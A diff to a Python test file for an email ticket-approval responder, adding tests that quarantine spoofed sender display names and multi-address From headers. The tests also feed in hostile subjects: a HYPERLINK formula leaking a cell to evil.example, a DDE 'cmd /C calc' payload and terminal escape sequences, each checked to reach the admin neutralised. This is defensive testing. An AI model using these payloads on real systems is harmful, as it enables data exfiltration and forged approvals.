@@ -12,13 +12,18 @@ approvers of ticket 1234 are alice@ and bob@example.com (see ``tests/conftest.py
 
 from __future__ import annotations
 
+import csv
 import email
+import io
+import json
 from collections.abc import Callable, Sequence
+from pathlib import Path
 
 import dkim
 import pytest
 
 from responder.authenticity import DkimResult, verify_dkim
+from responder.cli import main
 from responder.worker import PassResult
 from tests import shapes
 from tests.dkim_keys import new_dkim_key
@@ -633,6 +638,176 @@ async def test_a_forged_google_pass_below_gmails_own_fail_is_quarantined(
     result = await harness.once()
 
     assert_quarantined(harness, result, "dmarc=fail example.com")
+
+
+# -- a colleague approving as the boss: a display name that names the boss (issue 19) ---------
+#
+# Dave (dave@example.com, not an approver) really sends from example.com, so the
+# receiving server's dmarc=pass header.from=example.com is genuine: it checked Dave's
+# address. His display name decodes to Alice's address. The address is read from the
+# header's structure, never from decoded text, and a name naming another address is
+# quarantined: Halo is not asked, Alice gets no confirmation, Dave no answer.
+
+DAVE = "dave@example.com"
+BOSS_IN_THE_NAME = {
+    # the issue's own example: "<alice@example.com> (" in Q encoding
+    "q": "=?utf-8?q?=3Calice=40example=2Ecom=3E_=28?= <dave@example.com>",
+    "b": "=?utf-8?b?PGFsaWNlQGV4YW1wbGUuY29tPiAo?= <dave@example.com>",
+    "quoted": '"=?utf-8?q?=3Calice=40example=2Ecom=3E_=28?=" <dave@example.com>',
+    "split": "=?utf-8?q?=3Calice=40exa?=\r\n =?utf-8?b?bXBsZS5jb20+ICg=?= <dave@example.com>",
+    "mixed": "Alice Smith =?iso-8859-1?q?=3Calice=40example=2Ecom=3E?= via <dave@example.com>",
+    "comma": "=?utf-8?q?Alice_=3Calice=40example=2Ecom=3E=2C?= <dave@example.com>",
+    "full-width": "=?utf-8?q?=EF=BC=9Calice=EF=BC=A0example=2Ecom=EF=BC=9E?= <dave@example.com>",
+    "bare": "=?utf-8?q?alice=40example=2Ecom?= <dave@example.com>",
+    "comment": "dave@example.com (=?utf-8?q?Alice_=3Calice=40example=2Ecom=3E?=)",
+}
+NAME_WHY = {"comment": "the comment contains another address (alice@example.com)"}
+
+
+def colleagues_reply(from_header: str, private: bytes) -> bytes:
+    """Dave's "Approve" under ``from_header``, DKIM-signed by example.com (he is one of
+    its users), answering Alice's approval email."""
+    raw = shapes.approval_reply(sender=from_header, msgid=f"<{abs(hash(from_header))}@example.com>")
+    return shapes.signed(raw, "example.com", private)
+
+
+def as_stamped(raw: bytes, by: str) -> bytes:
+    """``raw`` as Exchange Online or Gmail delivers it, with their genuine pass for Dave."""
+    if by == "exchange-online":
+        return shapes.exo_external(raw, shapes.EXO_PASS)
+    return shapes.gmail_delivered(raw, shapes.gmail_results().replace("alice@", "dave@"))
+
+
+def assert_boss_untouched(harness: Harness, result: PassResult, why: str) -> None:
+    assert_quarantined(harness, result, why)
+    assert harness.halo.count("POST", "/api/ticketapproval") == 0
+    assert not [a for a in harness.answers() if "alice@example.com" in str(a["To"])]
+    assert all(row["sender"] != "alice@example.com" for row in harness.ledger_rows())
+
+
+@pytest.mark.parametrize("by", ["exchange-online", "mx.google.com"])
+@pytest.mark.parametrize("form", list(BOSS_IN_THE_NAME))
+async def test_a_display_name_naming_the_boss_is_quarantined(
+    harness: Harness, keys: tuple[bytes, bytes], form: str, by: str
+) -> None:
+    private, record = keys
+    harness.overrides = {"security": {"trusted_authserv_id": [by]}}
+    raw = colleagues_reply(BOSS_IN_THE_NAME[form], private)
+    harness.deliver(as_stamped(raw, by))
+
+    result = await harness.once(dkim_verifier=verifier({"sel._domainkey.example.com.": record}))
+
+    why = NAME_WHY.get(form, "the display name contains another address (alice@example.com)")
+    assert_boss_untouched(harness, result, why)
+
+
+def test_the_issues_own_message_through_responder_once(
+    harness: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The message as reported, through the command cron runs, with our MX's genuine
+    dmarc=pass header.from=example.com for Dave's address."""
+    config = harness.write_config(tmp_path / "config.toml")
+    raw = gmail_reply(BOSS_IN_THE_NAME["q"], 1234, "Approve")
+    harness.deliver(raw)
+
+    assert main(["once", "--config", str(config), "--json"]) == 0
+
+    [message] = json.loads(capsys.readouterr().out)["messages"]
+    assert message["outcome"] == "quarantined"
+    assert "another address (alice@example.com)" in message["reason"]
+    assert harness.posts() == [] and harness.answers() == []
+    assert harness.halo.approver(1234, 1)["result"] is None
+    (tmp_path / "reported.eml").write_bytes(raw)  # explain, even without a config, says so
+    assert main(["explain", str(tmp_path / "reported.eml")]) == 0
+    assert capsys.readouterr().out.splitlines()[0] == (
+        "would quarantine: suspicious headers: the display name contains another address"
+        " (alice@example.com)")
+
+
+@pytest.mark.parametrize(
+    ("from_header", "why"),
+    [
+        ("Alice <alice@example.com>, <dave@example.com>", "exactly one From: address, found 2"),
+        ("alice@example.com,dave@example.com", "exactly one From: address, found 2"),
+        ("=?utf-8?q?alice=40example=2Ecom?=", "an encoded-word in the address"),
+        ("<alice@example.com> <dave@example.com>", "two <addresses> in one mailbox"),
+        ("Bosses: alice@example.com, dave@example.com;", "a group"),
+    ],
+    ids=["comma", "comma-bare", "encoded-address", "two-angles", "group"],
+)
+async def test_a_from_header_with_two_addresses_or_an_encoded_one_is_refused(
+    harness: Harness, keys: tuple[bytes, bytes], from_header: str, why: str
+) -> None:
+    """Which of two addresses a server authenticated and a reader takes may differ."""
+    private, record = keys
+    harness.overrides = {"security": EXO}
+    harness.deliver(as_stamped(colleagues_reply(from_header, private), "exchange-online"))
+
+    result = await harness.once(dkim_verifier=verifier({"sel._domainkey.example.com.": record}))
+
+    assert_boss_untouched(harness, result, why)
+
+
+@pytest.mark.parametrize("by", ["exchange-online", "mx.google.com"])
+@pytest.mark.parametrize(
+    "from_header",
+    [
+        "=?utf-8?q?Alice_M=C3=BCller?= <alice@example.com>",
+        "=?utf-8?b?TcO8bGxlciwgQWxpY2UgKEZpbmFuY2Up?= <alice@example.com>",
+        '"alice@example.com" <alice@example.com>',
+        "alice@example.com (Alice M=?utf-8?q?=C3=BC?=ller)",
+    ],
+    ids=["q-name", "b-name-comma-parenthesis", "own-address-as-name", "comment"],
+)
+async def test_the_real_approver_with_an_encoded_display_name_is_approved(
+    harness: Harness, keys: tuple[bytes, bytes], from_header: str, by: str
+) -> None:
+    private, record = keys
+    harness.overrides = {"security": {"trusted_authserv_id": [by]}}
+    raw = shapes.signed(shapes.approval_reply(sender=from_header, msgid="<m1@example.com>"),
+                        "example.com", private)
+    harness.deliver(as_stamped(raw, by).replace(b"dave@", b"alice@"))
+
+    result = await harness.once(dkim_verifier=verifier({"sel._domainkey.example.com.": record}))
+
+    assert [r.outcome for r in result.reports] == ["approved"], result.reports
+    assert harness.halo.approver(1234, 1)["result"] == 1
+    assert [a["To"] for a in harness.answers()] == ["alice@example.com"]
+
+
+# -- attacker text reaching the admin's tools (issue 19) -------------------------------------
+#
+# A subject is the sender's text. Encoded, it can carry escape sequences that retitle the
+# terminal, clear it and write "all approved" where the admin looks; plain, a subject
+# starting with = is a formula to the spreadsheet the audit export is opened in.
+
+ESCAPES = ("=?utf-8?q?=1B]0;all_approved=07=1B[2J=1B[1;1H=E2=80=AERe:_Approval_required"
+           "_[ID:1234]?=")
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Re: Approval required [ID:1234]")'
+
+
+def test_escape_sequences_and_formulas_in_subjects_reach_the_admin_inert(
+    harness: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    config = harness.write_config(tmp_path / "config.toml")
+    for subject in (ESCAPES, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0 [ID:1234]"):
+        harness.deliver(reply("dave@example.com", subject, "Approve"))
+    main(["once", "--config", str(config)])
+    ran = capsys.readouterr()
+
+    assert main(["audit", "--config", str(config)]) == 0
+    export = capsys.readouterr().out
+    (tmp_path / "m.eml").write_bytes(reply("dave@example.com", ESCAPES, "Approve"))
+    assert main(["explain", str(tmp_path / "m.eml")]) == 0
+    explained = capsys.readouterr().out
+
+    for text in (ran.out, ran.err, export, explained):
+        assert not any(ch in text for ch in "\x1b\x07\u202e")
+    subjects = sorted(row["subject"] for row in csv.DictReader(io.StringIO(export)))
+    assert subjects[0].startswith("'=HYPERLINK(") and subjects[1].startswith("'@SUM(")
+    assert subjects[2].startswith("\\x1b]0;all approved\\x07\\x1b[2J")
+    assert "\\x1b]0;all approved\\x07\\x1b[2J\\x1b[1;1H\\u202eRe:" in explained
+    assert harness.posts() == []
 
 
 # -- the replay: Alice's genuinely signed "Approve" for 1234 sent again for 1300 -------------
